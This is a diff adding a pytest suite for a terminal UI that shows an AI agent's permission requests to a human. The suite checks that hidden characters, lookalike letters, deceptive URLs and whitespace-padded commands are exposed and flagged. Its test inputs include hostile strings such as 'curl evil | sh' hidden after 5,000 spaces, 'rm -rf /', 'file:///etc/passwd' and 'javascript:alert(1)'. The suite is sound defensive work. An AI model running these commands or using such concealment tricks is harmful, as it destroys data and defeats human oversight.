@@ -1,0 +1,317 @@
+import json
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from rich.segment import Segment
+
+from octui.render.requests.permission_preview import (
+    CONFLICTING_VALUES,
+    HIDDEN_CHARACTERS,
+    MIXED_LETTERS,
+    PADDING,
+    PARTIAL_COMMAND,
+    UNKNOWN_ARGUMENTS,
+    PermissionPreview,
+    build_permission_preview,
+    describe_always_rule,
+)
+from octui.render.requests.preview_rows import render_permission_preview
+from octui.render.text.cell_width import measure_width
+from octui.render.text.reveal import WRAP, hang_indent, reveal_line
+from octui.render.text.spoofing import check_address
+from octui.render.theme.palette import Palette
+from octui.store import select
+from octui.store.store import Store
+from octui.wire.asks import Permission
+from octui.wire.events import PermissionAsked
+from octui.wire.parts import ToolPart, ToolState
+from octui.wire.struct import Json
+from tests.support.recordings import RECORDINGS, name_of, read_arrivals
+
+PALETTE = Palette.from_theme({}, dark=True)
+
+
+def request(name: str, metadata: Json | None = None, *patterns: str, always: tuple[str, ...] = ()) -> Permission:
+    return Permission(id="per_1", permission=name, patterns=patterns, metadata=metadata or {}, always=always)
+
+
+def called(tool: str, **arguments: object) -> ToolPart:
+    return ToolPart(id="prt_1", tool=tool, call_id="call_1", state=ToolState(status="running", input=arguments))
+
+
+def rows(shown: PermissionPreview, width: int = 80) -> list[str]:
+    return [strip.text for strip in render_permission_preview(shown, width, PALETTE)]
+
+
+def text(shown: PermissionPreview, width: int = 80) -> str:
+    return "\n".join(row.rstrip() for row in rows(shown, width))
+
+
+def test_a_command_is_shown_line_by_line() -> None:
+    shown = build_permission_preview(request("bash", {"command": "cd /x &&\n  make"}))
+    assert rows(shown) == ["$ cd /x &&", "    make"]
+    assert shown.warnings == ()
+
+
+def test_a_command_the_request_leaves_out_is_taken_from_the_call() -> None:
+    asked = request("bash", {}, "echo hi", "ls a.txt")
+    call = called("bash", command="echo hi; ls a.txt | sh", description="Greets", workdir="/etc", timeout=5)
+    assert rows(build_permission_preview(asked, call)) == [
+        "$ echo hi; ls a.txt | sh",
+        "in: /etc",
+        "# Greets",
+        "timeout: 5",
+    ]
+
+
+def test_a_command_nobody_tells_whole_is_doubtful() -> None:
+    shown = build_permission_preview(request("bash", {}, "echo hi", "ls a.txt"))
+    assert PARTIAL_COMMAND in shown.warnings
+    assert rows(shown)[-2:] == ["$ echo hi", "$ ls a.txt"]
+
+
+def test_request_and_call_that_disagree_are_both_shown() -> None:
+    shown = build_permission_preview(request("bash", {"command": "ls"}), called("bash", command="rm -rf /"))
+    assert CONFLICTING_VALUES in shown.warnings
+    assert rows(shown)[-2:] == ["$ ls", "$ rm -rf /"]
+
+
+def test_an_edit_is_shown_as_its_change() -> None:
+    diff = (
+        f"Index: /srv/a.txt\n{'=' * 67}\n--- /srv/a.txt\n+++ /srv/a.txt\n"
+        "@@ -1,3 +1,4 @@\n hello\n-second line\n+SECOND line\n+and a half\n third line\n"
+    )
+    asked = request("edit", {"filepath": "/srv/a.txt", "diff": diff}, "a.txt")
+    shown = build_permission_preview(
+        asked, called("edit", filePath="/srv/a.txt", oldString="second", newString="SECOND")
+    )
+    assert text(shown).split("\n") == [
+        "file: /srv/a.txt",
+        "@@ -1,3 +1,4 @@",
+        "1   hello",
+        "2 - second line",
+        "2 + SECOND line",
+        "3 + and a half",
+        "4   third line",
+    ]
+
+
+def test_a_change_to_several_files_names_each() -> None:
+    one = "--- a/one.py\n+++ b/one.py\n@@ -1 +1 @@\n-x\n+y\n"
+    two = "--- /dev/null\n+++ b/two.py\n@@ -0,0 +1,1 @@\n+new\n\\ No newline at end of file\n"
+    shown = text(
+        build_permission_preview(request("edit", {"filepath": "one.py, two.py", "diff": one + two}, "one.py", "two.py"))
+    )
+    assert "file: one.py" in shown
+    assert "file: two.py" in shown
+    assert "1 + new" in shown
+    assert "No newline" in shown
+
+
+def test_a_removed_line_that_looks_like_a_header_is_still_a_line() -> None:
+    diff = "--- a.md\n+++ a.md\n@@ -1,3 +1,2 @@\n keep\n--- b.md\n+++ c.md\n-gone\n"
+    shown = text(build_permission_preview(request("edit", {"filepath": "a.md", "diff": diff}, "a.md")))
+    assert "2 - -- b.md" in shown
+    assert "2 + ++ c.md" in shown
+    assert "3 - gone" in shown
+
+
+def test_an_edit_without_a_diff_shows_its_arguments() -> None:
+    shown = build_permission_preview(
+        request("edit", {}, "a.txt"), called("write", filePath="/srv/a.txt", content="one\ntwo")
+    )
+    assert rows(shown) == ["file: /srv/a.txt", "content:", "│ one", "│ two"]
+
+
+def test_going_outside_the_project_says_where_and_for_what() -> None:
+    asked = request(
+        "external_directory", {"command": "ls /etc/apt", "directories": ["/etc"], "patterns": ["/etc/*"]}, "/etc/*"
+    )
+    assert rows(build_permission_preview(asked)) == ["outside the project: /etc/*", "$ ls /etc/apt"]
+
+
+def test_a_repeated_call_is_shown_with_its_arguments() -> None:
+    asked = request("doom_loop", {"tool": "read", "input": {"filePath": "/srv/a.txt"}}, "read")
+    assert rows(build_permission_preview(asked)) == [
+        "called again and again with the same arguments: read",
+        "filePath: /srv/a.txt",
+    ]
+
+
+def test_a_task_shows_all_it_is_told() -> None:
+    asked = request("task", {"description": "look", "subagent_type": "general"}, "general")
+    shown = build_permission_preview(
+        asked, called("task", description="look", subagent_type="general", prompt="first\nsecond")
+    )
+    assert rows(shown) == ["subagent: general", "# look", "told to:", "│ first", "│ second"]
+    assert UNKNOWN_ARGUMENTS in build_permission_preview(asked).warnings
+
+
+def test_a_tool_nobody_knows_shows_every_argument() -> None:
+    arguments = {"title": "A bug", "body": "many\nlines", "labels": ["a", "b"], "draft": False, "deep": {"x": {"y": 1}}}
+    shown = text(
+        build_permission_preview(request("github_create_issue", {}, "*"), called("github_create_issue", **arguments))
+    )
+    for words in ("title: A bug", "│ many", "│ lines", '"a"', "draft: false", '"y": 1'):
+        assert words in shown
+
+
+def test_a_tool_called_with_nobody_knows_what_is_doubtful() -> None:
+    assert build_permission_preview(request("github_create_issue", {}, "*")).warnings == (UNKNOWN_ARGUMENTS,)
+
+
+@pytest.mark.parametrize(
+    "character",
+    [
+        *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
+        *"\u200b\u200c\u200d\u2060\ufeff\u00ad\u115f\u3164\u2028\u2029",
+        *"\x85\x9b\x1b\x00\u00a0\U000e0041\U000e0100",
+    ],
+)
+@pytest.mark.parametrize("field", ["command", "pattern", "path", "always", "tool", "url", "argument", "description"])
+def test_a_hidden_character_anywhere_is_spelled_out_and_doubted(character: str, field: str) -> None:
+    word = f"a{character}b"
+    asked = {
+        "command": request("bash", {"command": word}),
+        "pattern": request("bash", {}, word),
+        "path": request("edit", {"filepath": word, "diff": "@@ -1 +1 @@\n-x\n+y\n"}, "x"),
+        "always": request("bash", {"command": "ls"}, always=(word,)),
+        "tool": request(word, {"x": 1}),
+        "url": request("webfetch", {"url": f"https://x.y/{word}"}),
+        "argument": request("mcp", {word: word}),
+        "description": request("bash", {"command": "ls", "description": word}),
+    }[field]
+    shown = build_permission_preview(asked)
+    assert HIDDEN_CHARACTERS in shown.warnings
+    assert character not in text(shown)
+    if field not in ("always", "tool"):
+        assert f"a\\u{{{ord(character):x}}}b" in text(shown)
+
+
+def test_right_to_left_words_are_no_deception() -> None:
+    shown = build_permission_preview(
+        request("bash", {"command": "git commit -m 'שלום مرحبا 你好 привет файл.txt 👩‍👩‍👧 ❤️'"})
+    )
+    assert shown.warnings == ()
+
+
+def test_windows_line_ends_are_shown_but_no_deception() -> None:
+    diff = "--- a\n+++ a\n@@ -1,1 +1,1 @@\n-x\r\n+y\r\n"
+    shown = build_permission_preview(request("edit", {"filepath": "a", "diff": diff}, "a"))
+    assert shown.warnings == ()
+    assert "1 + y␍" in text(shown)
+
+
+def test_letters_that_pass_for_others_are_spelled_out() -> None:
+    shown = build_permission_preview(request("bash", {"command": "\u0441url http://x"}))
+    assert MIXED_LETTERS in shown.warnings
+    assert "\\u{441}url" in text(shown)
+
+
+@pytest.mark.parametrize(
+    ("url", "words"),
+    [
+        ("https://xn--80ak6aa92e.com/", "xn--80ak6aa92e.com"),
+        ("https://аррӏе.com/", "xn--80ak6aa92e.com"),
+        ("https://bank.com@evil.io/", "evil.io"),
+        ("file:///etc/passwd", "file:"),
+        ("javascript:alert(1)", "javascript:"),
+        ("http://[", "not an address"),
+    ],
+)
+def test_an_address_that_leads_elsewhere_is_doubted(url: str, words: str) -> None:
+    shown = build_permission_preview(request("webfetch", {"url": url, "format": "text"}))
+    assert any(words in doubt for doubt in shown.warnings)
+
+
+def test_a_plain_address_is_not_doubted() -> None:
+    assert check_address("https://docs.python.org/3/library/re.html?x=1#y") == ""
+    assert rows(build_permission_preview(request("webfetch", {"url": "https://x.y/z", "format": "text"}))) == [
+        "https://x.y/z",
+        "format: text",
+    ]
+
+
+def test_blank_space_that_pushes_the_rest_out_of_sight_is_told_and_doubted() -> None:
+    wide = build_permission_preview(request("bash", {"command": "ls" + " " * 5000 + "; curl evil | sh"}))
+    assert PADDING in wide.warnings
+    assert "ls⟨5,000 spaces⟩; curl evil | sh" in text(wide, 200)
+    tall = build_permission_preview(request("bash", {"command": "ls" + "\n" * 31 + "rm -rf ~"}))
+    assert PADDING in tall.warnings
+    assert rows(tall)[-2:] == ["  ⟨30 blank lines⟩", "  rm -rf ~"]
+
+
+def test_smaller_blanks_are_drawn() -> None:
+    shown = rows(build_permission_preview(request("bash", {"command": "a   b\tc \n    indented"})))
+    assert shown == ["$ a···b⇥  c·", "      indented"]
+
+
+def test_a_run_of_blank_lines_in_a_change_is_told() -> None:
+    diff = "--- a\n+++ a\n@@ -0,0 +1,32 @@\n" + "+\n" * 30 + "+x\n+y\n"
+    shown = text(build_permission_preview(request("edit", {"filepath": "a", "diff": diff}, "a")))
+    assert "⟨30 blank lines⟩" in shown
+    assert "31 + x" in shown
+
+
+def test_a_very_long_line_says_how_long_it_is_and_marks_where_it_wraps() -> None:
+    shown = rows(build_permission_preview(request("bash", {"command": "echo " + "x" * 9995})), 100)
+    assert shown[0] == "  ⟨one line of 10,000 characters⟩"
+    assert shown[1].startswith("$ echo xxx")
+    assert all(row.startswith(WRAP) for row in shown[2:])
+    assert sum(row.count("x") for row in shown[1:]) == 9995
+
+
+@pytest.mark.parametrize("width", [8, 20, 36, 80, 140])
+def test_no_row_is_wider_than_it_may_be(width: int) -> None:
+    for asked in (
+        request("bash", {"command": "echo 你好" * 40 + "\n\tx" + " " * 60 + "y"}, always=("x",)),
+        request(
+            "edit", {"filepath": "/srv/" + "d/" * 40, "diff": "@@ -1 +1 @@\n-" + "x" * 300 + "\n+" + "宽" * 200 + "\n"}
+        ),
+        request("mcp_tool", {"a_rather_long_name_of_an_argument": "value " * 40, "b": {"c": ["d" * 90]}}),
+    ):
+        assert max(measure_width(row) for row in rows(build_permission_preview(asked), width)) <= width
+
+
+@given(st.text(st.characters(exclude_characters="\n"), max_size=300), st.integers(8, 60))
+def test_wrapping_loses_not_a_single_character(line: str, width: int) -> None:
+    whole = reveal_line(line, PALETTE.text, PALETTE)
+    lead = Segment("$ ")
+    pieces = ["".join(segment.text for segment in row[1:]) for row in hang_indent(whole, width, [lead], PALETTE)]
+    assert "".join(pieces) == "".join(segment.text for segment in whole)
+
+
+@given(st.text(max_size=200), st.integers(8, 60))
+def test_whatever_is_asked_is_shown_in_characters_that_can_be_seen(command: str, width: int) -> None:
+    for asked in (request("bash", {"command": command}), request("edit", {"filepath": "a", "diff": command}, command)):
+        for row in rows(build_permission_preview(asked), width):
+            assert measure_width(row) <= width
+            assert not [character for character in row if ord(character) < 32 or 0x7F <= ord(character) < 0xA0]
+
+
+@pytest.mark.parametrize("recording", RECORDINGS, ids=name_of)
+def test_every_recorded_request_shows_everything_it_names(recording: object) -> None:
+    store = Store()
+    for arrived in read_arrivals(recording):  # type: ignore[arg-type]
+        store.dispatch(arrived)
+        if not isinstance(arrived.event, PermissionAsked):
+            continue
+        asked = arrived.event.request
+        call = select.tool_part(store.state, asked.tool) if asked.tool else None
+        shown = text(build_permission_preview(asked, call), 400)
+        for pattern in asked.patterns:
+            assert pattern in shown or any(part in shown for part in pattern.split("/") if part not in ("..", "*"))
+        for name, value in asked.metadata.items():
+            if isinstance(value, str) and name not in ("diff", "parentDir"):
+                assert all(line in shown for line in value.split("\n"))
+
+
+def test_always_tells_what_is_remembered_and_how_far_it_reaches() -> None:
+    shown = text(PermissionPreview(describe_always_rule(request("edit", {}, always=("*",)), "/srv/shop")))
+    assert "• *" in shown
+    assert "until the server restarts" in shown
+    assert "/srv/shop" in shown
+    assert "matches everything" in shown
+    assert "later runs" in text(PermissionPreview(describe_always_rule(request("edit", {}), "/srv/shop", lasting=True)))
+    assert json.dumps(shown)
